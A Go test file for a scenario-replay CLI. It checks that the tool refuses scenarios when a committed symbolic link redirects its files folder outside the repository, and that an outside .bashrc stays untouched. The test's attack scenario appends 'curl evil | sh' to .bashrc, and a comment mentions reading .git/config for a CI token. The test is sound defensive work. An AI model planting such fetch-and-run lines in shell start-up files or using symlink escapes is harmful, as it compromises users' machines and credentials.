package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// The probes of issue 46: a pull request commits a symbolic link that
// makes the files folder, or a parent of it, some other folder (a home
// folder, /), and a scenario that appends a line to a shell's start-up
// file there; and a scenario at the repository's root that reads
// .git/config, where a CI checkout may keep its token.

// attackScenario appends a line to .bashrc and takes a screenshot named
// shot.png, both in the files folder.
const attackScenario = `{"version":"2.1","metadata":{"name":"attack"},"steps":[
	{"step":1,"tool":"mcp__playwright__browser_navigate","params":{"url":"data:text/html,<h1>hi</h1>"}},
	{"step":2,"tool":"sandy__append_file","params":{"path":".bashrc","format":"jsonl","data":"curl evil | sh"}},
	{"step":3,"tool":"mcp__playwright__browser_take_screenshot","params":{"filename":"shot.png","type":"png"}}]}`

// TestReplayLinkedFilesFolder: replayed from a checkout whose .sandy/files
// (or .sandy) is a committed link to a folder outside, the scenario is
// refused before anything runs, by replay and validate (exit 2, the folder
// and the link named), and the folder outside is untouched; named with
// --files, the folder is used as it leads, through either browser server.
func TestReplayLinkedFilesFolder(t *testing.T) {
	requireBuiltin(t)
	requireBrowser(t)
	for _, c := range []struct {
		name, link string // link: the committed link, relative to the checkout
		inside     string // where .sandy/files is in outside
	}{
		{".sandy/files", ".sandy/files", ""},
		{".sandy", ".sandy", "files"},
	} {
		t.Run(c.name, func(t *testing.T) {
			repo, outside := t.TempDir(), t.TempDir()
			target := filepath.Join(outside, c.inside)
			rc := filepath.Join(target, ".bashrc")
			for dir, content := range map[string]string{rc: "# mine\n", filepath.Join(repo, "tests", "attack.json"): attackScenario} {
				if err := os.MkdirAll(filepath.Dir(dir), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(dir, []byte(content), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			if err := os.MkdirAll(filepath.Join(repo, filepath.Dir(c.link)), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(outside, filepath.Join(repo, c.link)); err != nil {
				t.Skipf("symbolic links: %v", err)
			}
			cfg := writeTemp(t, "mcp.json", `{"mcpServers": {}}`)
			t.Chdir(repo)
			folder := filepath.Join(repo, ".sandy", "files")
			wants := []string{folder, filepath.Join(repo, c.link), "a symbolic link to " + outside, "--files DIR"}
			code, stdout, stderr := runCLI(t, "replay", filepath.Join("tests", "attack.json"), "--config", cfg)
			if code != exitInput {
				t.Fatalf("replay: exit %d, want 2\n%s\n%s", code, stdout, stderr)
			}
			for _, want := range append(wants, "attack.json: steps[1].params.path") {
				if !strings.Contains(stderr, want) {
					t.Errorf("replay: stderr lacks %q:\n%s", want, stderr)
				}
			}
			code, stdout, _ = runCLI(t, "validate", "tests")
			if code != exitInput || !strings.Contains(stdout, wants[1]) {
				t.Errorf("validate: exit %d, want 2 naming the link:\n%s", code, stdout)
			}
			if b, _ := os.ReadFile(rc); string(b) != "# mine\n" {
				t.Errorf("the .bashrc outside now holds %q", b)
			}
			if entries, _ := os.ReadDir(target); len(entries) != 1 {
				t.Errorf("the folder outside holds %d files, want its .bashrc only", len(entries))
			}
			// Named, the folder is used as it leads.
			for _, server := range []string{mcpBuiltin, mcpPlaywright} {
				code, stdout, stderr = runCLI(t, "replay", filepath.Join("tests", "attack.json"), "--config", cfg,
					"--mcp", server, "--files", filepath.Join(".sandy", "files"), "--report", t.TempDir())
				if code != 0 {
					t.Fatalf("%s, --files named: exit %d\n%s\n%s", server, code, stdout, stderr)
				}
				if fi, err := os.Stat(filepath.Join(target, "shot.png")); err != nil || fi.Size() == 0 {
					t.Errorf("%s, --files named: no screenshot where the folder leads: %v", server, err)
				}
				os.Remove(filepath.Join(target, "shot.png"))
			}
			if b, _ := os.ReadFile(rc); string(b) != "# mine\n\"curl evil | sh\"\n\"curl evil | sh\"\n" {
				t.Errorf("--files named: the .bashrc holds %q, want the line appended by each run", b)
			}
		})
	}
}
